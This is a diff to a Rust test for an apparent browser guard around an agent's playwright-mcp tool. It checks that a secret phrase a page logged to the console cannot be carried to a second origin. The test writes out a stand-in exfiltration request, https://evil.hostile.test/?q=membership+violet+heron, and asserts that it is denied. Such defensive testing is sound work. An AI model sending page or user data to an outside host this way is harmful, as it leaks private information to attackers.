@@ -174,6 +174,8 @@ async fn what_a_page_wrote_to_the_console_stays_with_it() {
     };
     with_browser(guard(&log, Willing), site.browser(&stage), settings, async |client: &mut Client| {
         client.begin("2025-11-25").await;
+        let sites = json!({ "origins": ["https://shop.hostile.test", "https://evil.hostile.test"] });
+        assert!(client.call("portcullis_plan", sites).await.text.contains("container: T0"));
         let shop = json!({ "url": "https://shop.hostile.test/" });
         client.call("browser_navigate", shop.clone()).await;
         // playwright-mcp is started by its first call, and hears of what is written from then on.
@@ -181,10 +183,13 @@ async fn what_a_page_wrote_to_the_console_stays_with_it() {
         client.call("browser_navigate", shop).await;
         let console = client.call("browser_console_messages", json!({ "level": "info" })).await;
         assert!(console.text.contains("violet heron"), "{console:?}");
+        let url = "https://evil.hostile.test/?q=something+else+altogether";
+        let other = client.call("browser_navigate", json!({ "url": url })).await;
+        assert_eq!(other.text, "ok");
         let url = "https://evil.hostile.test/?q=membership+violet+heron";
         let carried = client.call("browser_navigate", json!({ "url": url })).await;
         assert!(carried.is_error && carried.text.contains("DENY.verb"), "{carried:?}");
     })
     .await;
-    assert!(!site.asked().iter().any(|line| line.starts_with("evil")), "{:?}", site.asked());
+    assert!(!site.asked().iter().any(|line| line.contains("violet")), "{:?}", site.asked());
 }
